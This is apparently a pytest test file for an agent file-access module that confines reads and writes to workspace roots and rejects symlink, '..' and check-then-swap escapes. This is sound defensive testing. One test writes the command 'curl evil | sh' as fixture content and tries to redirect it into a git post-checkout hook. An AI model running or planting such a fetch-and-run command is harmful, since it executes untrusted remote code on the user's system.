"""`louise.capabilities.fs`: confinement to roots, symlinks, line/limit slicing, atomic writes."""

from __future__ import annotations

import os
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from louise.acp.errors import INVALID_PARAMS, RESOURCE_NOT_FOUND, RpcError
from louise.capabilities.fs import FileAccess, slice_lines


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    # Resolved, so expectations compare with what FileAccess reports.
    path = (tmp_path / "workspace").resolve()
    path.mkdir()
    return path


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    path = (tmp_path / "outside").resolve()
    path.mkdir()
    (path / "secret.txt").write_text("secret\n")
    return path


@pytest.fixture
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


async def read(access: FileAccess, path: Path | str, **extra: Any) -> str:
    result = await access.read_text_file({"sessionId": "s1", "path": str(path), **extra})
    assert set(result) == {"content"}
    content = result["content"]
    assert isinstance(content, str)
    return content


async def write(access: FileAccess, path: Path | str, content: str) -> None:
    result = await access.write_text_file(
        {"sessionId": "s1", "path": str(path), "content": content}
    )
    assert result == {}


async def rpc_error(coro: Any) -> RpcError:
    with pytest.raises(RpcError) as info:
        await coro
    return info.value


# -- slice_lines ---------------------------------------------------------------------------

TEXT = "one\ntwo\r\nthree\nfour"


@pytest.mark.parametrize(
    ("line", "limit", "expected"),
    [
        (None, None, TEXT),
        (1, None, TEXT),
        (2, None, "two\r\nthree\nfour"),
        (None, 1, "one\n"),
        (1, 2, "one\ntwo\r\n"),
        (2, 2, "two\r\nthree\n"),
        (4, 1, "four"),
        (4, 10, "four"),
        (3, 100, "three\nfour"),
        (5, None, ""),
        (5, 1, ""),
        (10**9, 10**9, ""),
        (1, 0, ""),
        (3, 0, ""),
    ],
)
def test_slice_lines(line: int | None, limit: int | None, expected: str) -> None:
    assert slice_lines(TEXT, line, limit) == expected


@pytest.mark.parametrize(
    ("text", "line", "limit", "expected"),
    [
        ("", None, None, ""),
        ("", 1, 1, ""),
        ("a\n", 2, None, ""),  # a final newline does not start another line
        ("a\n", 1, 1, "a\n"),
        ("\n\n\n", 2, 1, "\n"),
        ("a\rb\nc", 1, 1, "a\rb\n"),  # a lone CR is not a line end
        ("é\n€\n😀", 3, 1, "😀"),
    ],
)
def test_slice_lines_edges(text: str, line: int | None, limit: int | None, expected: str) -> None:
    assert slice_lines(text, line, limit) == expected


# -- reads ---------------------------------------------------------------------------------


@pytest.mark.anyio
async def test_read_whole_file_and_slices(root: Path) -> None:
    path = root / "f.txt"
    path.write_bytes(b"l1\nl2\r\nl3\nl4\n")
    access = FileAccess([root])
    assert await read(access, path) == "l1\nl2\r\nl3\nl4\n"
    assert await read(access, path, line=2, limit=2) == "l2\r\nl3\n"
    assert await read(access, path, line=4) == "l4\n"
    assert await read(access, path, line=5) == ""
    assert await read(access, path, limit=1) == "l1\n"
    assert await read(access, path, line=None, limit=None) == "l1\nl2\r\nl3\nl4\n"


@pytest.mark.anyio
@pytest.mark.parametrize(
    "extra",
    [{"line": 0}, {"line": -1}, {"limit": -1}, {"line": "2"}, {"limit": 1.5}, {"line": True}],
)
async def test_read_rejects_bad_line_or_limit(root: Path, extra: dict[str, Any]) -> None:
    (root / "f.txt").write_text("x\n")
    error = await rpc_error(read(FileAccess([root]), root / "f.txt", **extra))
    assert error.code == INVALID_PARAMS


@pytest.mark.anyio
async def test_read_missing_file_is_resource_not_found(root: Path) -> None:
    access = FileAccess([root])
    error = await rpc_error(read(access, root / "nope.txt"))
    assert error.code == RESOURCE_NOT_FOUND == -32002
    assert "nope.txt" in error.message
    error = await rpc_error(read(access, root / "no" / "such" / "dir.txt"))
    assert error.code == RESOURCE_NOT_FOUND


@pytest.mark.anyio
@pytest.mark.parametrize("path", ["relative.txt", "./x", "", None, 3])
async def test_relative_or_invalid_path_refused(root: Path, path: object) -> None:
    access = FileAccess([root])
    error = await rpc_error(access.read_text_file({"sessionId": "s1", "path": path}))
    assert error.code == INVALID_PARAMS
    error = await rpc_error(
        access.write_text_file({"sessionId": "s1", "path": path, "content": "x"})
    )
    assert error.code == INVALID_PARAMS


@pytest.mark.anyio
async def test_outside_roots_refused_with_clear_message(root: Path, outside: Path) -> None:
    access = FileAccess([root])
    target = outside / "secret.txt"
    error = await rpc_error(read(access, target))
    assert error.code == INVALID_PARAMS
    assert str(target) in error.message
    assert str(root) in error.message
    assert "fs.roots" in error.message
    # No false lead: permission rules do not widen the roots.
    assert "permission" not in error.message
    error = await rpc_error(write(access, outside / "new.txt", "x"))
    assert error.code == INVALID_PARAMS
    assert not (outside / "new.txt").exists()


@pytest.mark.anyio
async def test_dotdot_escape_refused(root: Path, outside: Path) -> None:
    access = FileAccess([root])
    sneaky = f"{root}/../{outside.name}/secret.txt"
    error = await rpc_error(read(access, sneaky))
    assert error.code == INVALID_PARAMS


@pytest.mark.anyio
async def test_sibling_with_common_prefix_is_outside(tmp_path: Path, root: Path) -> None:
    sibling = root.parent / (root.name + "-other")
    sibling.mkdir()
    (sibling / "f.txt").write_text("x")
    error = await rpc_error(read(FileAccess([root]), sibling / "f.txt"))
    assert error.code == INVALID_PARAMS


@pytest.mark.anyio
async def test_symlink_escape_refused(root: Path, outside: Path) -> None:
    (root / "link.txt").symlink_to(outside / "secret.txt")
    (root / "linkdir").symlink_to(outside, target_is_directory=True)
    access = FileAccess([root])

    error = await rpc_error(read(access, root / "link.txt"))
    assert error.code == INVALID_PARAMS
    assert "resolves to" in error.message
    assert str(outside / "secret.txt") in error.message

    error = await rpc_error(read(access, root / "linkdir" / "secret.txt"))
    assert error.code == INVALID_PARAMS

    error = await rpc_error(write(access, root / "link.txt", "pwned"))
    assert error.code == INVALID_PARAMS
    error = await rpc_error(write(access, root / "linkdir" / "sub" / "new.txt", "pwned"))
    assert error.code == INVALID_PARAMS
    assert (outside / "secret.txt").read_text() == "secret\n"
    assert not (outside / "sub").exists()


@pytest.mark.anyio
async def test_symlink_inside_root_ok(root: Path) -> None:
    (root / "real").mkdir()
    (root / "real" / "f.txt").write_text("hello\n")
    (root / "alias.txt").symlink_to(root / "real" / "f.txt")
    (root / "aliasdir").symlink_to(root / "real", target_is_directory=True)
    access = FileAccess([root])
    assert await read(access, root / "alias.txt") == "hello\n"
    assert await read(access, root / "aliasdir" / "f.txt") == "hello\n"
    await write(access, root / "alias.txt", "changed\n")
    # The link stays a link; its target got the new content.
    assert (root / "alias.txt").is_symlink()
    assert (root / "real" / "f.txt").read_text() == "changed\n"


@pytest.mark.anyio
async def test_root_that_is_a_symlink_works(tmp_path: Path, root: Path) -> None:
    (root / "f.txt").write_text("via link\n")
    link_root = tmp_path / "root-link"
    link_root.symlink_to(root, target_is_directory=True)
    access = FileAccess([link_root])
    assert access.roots == (root,)
    assert await read(access, link_root / "f.txt") == "via link\n"
    assert await read(access, root / "f.txt") == "via link\n"


@pytest.mark.anyio
async def test_extra_root_ok(root: Path, outside: Path) -> None:
    access = FileAccess([root, outside])
    assert await read(access, outside / "secret.txt") == "secret\n"
    await write(access, outside / "added.txt", "ok")
    assert (outside / "added.txt").read_text() == "ok"


def test_relative_root_is_a_configuration_error() -> None:
    with pytest.raises(ValueError, match="absolute"):
        FileAccess(["relative/root"])


@pytest.mark.anyio
async def test_hook_allows_outside(root: Path, outside: Path) -> None:
    asked: list[Path] = []

    def allow_secret(path: Path) -> bool:
        asked.append(path)
        return path.name == "secret.txt"

    (outside / "other.txt").write_text("other")
    access = FileAccess([root], outside_roots_allowed=allow_secret)
    assert await read(access, outside / "secret.txt") == "secret\n"
    error = await rpc_error(read(access, outside / "other.txt"))
    assert error.code == INVALID_PARAMS
    assert asked == [outside / "secret.txt", outside / "other.txt"]


@pytest.mark.anyio
async def test_hook_sees_resolved_path(root: Path, outside: Path) -> None:
    asked: list[Path] = []

    def record(path: Path) -> bool:
        asked.append(path)
        return False

    (root / "link.txt").symlink_to(outside / "secret.txt")
    access = FileAccess([root], outside_roots_allowed=record)
    await rpc_error(read(access, root / "link.txt"))
    assert asked == [outside / "secret.txt"]


@pytest.mark.anyio
async def test_failing_hook_refuses(root: Path, outside: Path) -> None:
    def broken(path: Path) -> bool:
        raise RuntimeError("rule engine down")

    access = FileAccess([root], outside_roots_allowed=broken)
    error = await rpc_error(read(access, outside / "secret.txt"))
    assert error.code == INVALID_PARAMS


@pytest.mark.anyio
async def test_read_size_bound(root: Path) -> None:
    access = FileAccess([root], max_read_bytes=10)
    (root / "ten.txt").write_bytes(b"0123456789")
    (root / "eleven.txt").write_bytes(b"0123456789A")
    assert await read(access, root / "ten.txt") == "0123456789"
    error = await rpc_error(read(access, root / "eleven.txt"))
    assert error.code == INVALID_PARAMS
    assert "too large" in error.message
    assert "10 bytes" in error.message


@pytest.mark.anyio
async def test_read_non_utf8_directory_and_fifo_refused(root: Path) -> None:
    access = FileAccess([root])
    (root / "bin.dat").write_bytes(b"ok\xff\xfe")
    error = await rpc_error(read(access, root / "bin.dat"))
    assert error.code == INVALID_PARAMS
    assert "UTF-8" in error.message

    (root / "dir").mkdir()
    error = await rpc_error(read(access, root / "dir"))
    assert error.code == INVALID_PARAMS
    assert "directory" in error.message

    # Opening a FIFO for reading would block forever without O_NONBLOCK.
    os.mkfifo(root / "pipe")
    error = await rpc_error(read(access, root / "pipe"))
    assert error.code == INVALID_PARAMS
    assert "regular file" in error.message


@pytest.mark.anyio
async def test_a_failure_to_resolve_is_a_clean_refusal_naming_the_path(root: Path) -> None:
    # A regular file where a parent directory should be: neither missing nor allowed.
    (root / "plain").write_text("x")
    target = root / "plain" / "child.txt"
    error = await rpc_error(write(FileAccess([root]), target, "x"))
    assert error.code == INVALID_PARAMS
    assert str(target) in error.message and "Not a directory" in error.message
    # A symlink loop, likewise.
    (root / "loop").symlink_to(root / "loop")
    error = await rpc_error(read(FileAccess([root]), root / "loop" / "x.txt"))
    assert error.code == INVALID_PARAMS
    assert "symbolic links" in error.message


# -- writes --------------------------------------------------------------------------------


@pytest.mark.anyio
async def test_write_creates_file_and_parent_directories(root: Path, umask_022: None) -> None:
    access = FileAccess([root])
    target = root / "a" / "b" / "c.txt"
    await write(access, target, "line 1\r\nline 2 — é€😀\n")
    assert target.read_bytes() == "line 1\r\nline 2 — é€😀\n".encode()
    # A created file gets what a plain create would give, not a temp file's 0600.
    assert stat.S_IMODE(target.stat().st_mode) == 0o644
    assert await read(access, target, line=2) == "line 2 — é€😀\n"


@pytest.mark.anyio
async def test_write_empty_content(root: Path) -> None:
    target = root / "empty.txt"
    target.write_text("something")
    await write(FileAccess([root]), target, "")
    assert target.read_bytes() == b""


@pytest.mark.anyio
async def test_write_is_atomic_and_preserves_mode(root: Path) -> None:
    target = root / "script.sh"
    target.write_text("old\n")
    target.chmod(0o750)
    with target.open("rb") as before:
        await write(FileAccess([root]), target, "new\n")
        # Replaced by rename, not rewritten in place: the old inode keeps the old bytes.
        assert before.read() == b"old\n"
    assert target.read_text() == "new\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o750
    # No temporary file is left behind.
    assert sorted(p.name for p in root.iterdir()) == ["script.sh"]


@pytest.mark.anyio
async def test_write_refuses_directory_and_bad_content(root: Path) -> None:
    access = FileAccess([root])
    (root / "dir").mkdir()
    error = await rpc_error(write(access, root / "dir", "x"))
    assert error.code == INVALID_PARAMS
    error = await rpc_error(
        access.write_text_file({"sessionId": "s1", "path": str(root / "f"), "content": None})
    )
    assert error.code == INVALID_PARAMS
    error = await rpc_error(write(access, root / "f", "lone \ud800 surrogate"))
    assert error.code == INVALID_PARAMS
    assert not (root / "f").exists()


@pytest.mark.anyio
async def test_a_checked_write_lands_where_it_was_checked_or_nowhere(root: Path) -> None:
    # The gate checked notes.txt; it became a link to a git hook before the write.
    access = FileAccess([root])
    hook = root / ".git" / "hooks" / "post-checkout"
    hook.parent.mkdir(parents=True)
    hook.write_text("#!/bin/sh\n")
    notes = root / "notes.txt"
    checked = access.check_path(str(notes))
    notes.symlink_to(hook)
    params = {"sessionId": "s1", "path": str(notes), "content": "curl evil | sh\n"}
    error = await rpc_error(access.write_text_file(params, expected=checked))
    assert error.code == INVALID_PARAMS and str(hook) in error.message
    assert hook.read_text() == "#!/bin/sh\n"
    notes.unlink()
    assert await access.write_text_file(params, expected=checked) == {}
    assert notes.read_text() == "curl evil | sh\n"


@pytest.mark.anyio
async def test_relative_links_and_dotdot_are_resolved_step_by_step(root: Path,
                                                                   outside: Path) -> None:
    (root / "real" / "deep").mkdir(parents=True)
    (root / "real" / "f.txt").write_text("hello\n")
    # A relative link that climbs out of the root's name and back in lands inside.
    (root / "rel").symlink_to(Path("..") / root.name / "real")
    (root / "chain").symlink_to("rel")
    access = FileAccess([root])
    assert await read(access, root / "chain" / "f.txt") == "hello\n"
    assert await read(access, f"{root}/real/deep/../f.txt") == "hello\n"
    # `..` after a link goes up from where the link points, not from the link.
    (root / "out").symlink_to(outside / "secret.txt")
    (root / "outdir").symlink_to(outside)
    error = await rpc_error(read(access, f"{root}/outdir/../{outside.name}/secret.txt"))
    assert error.code == INVALID_PARAMS


def test_check_path_resolves_without_creating_anything(root: Path, outside: Path) -> None:
    (root / "real").mkdir()
    (root / "alias").symlink_to(root / "real")
    access = FileAccess([root])
    assert access.check_path(f"{root}/alias/new/dir/../f.txt") == root / "real" / "new" / "f.txt"
    assert not (root / "real" / "new").exists()
    with pytest.raises(RpcError) as refused:
        access.check_path(f"{root}/missing/../../{outside.name}/x.txt")
    assert refused.value.code == INVALID_PARAMS
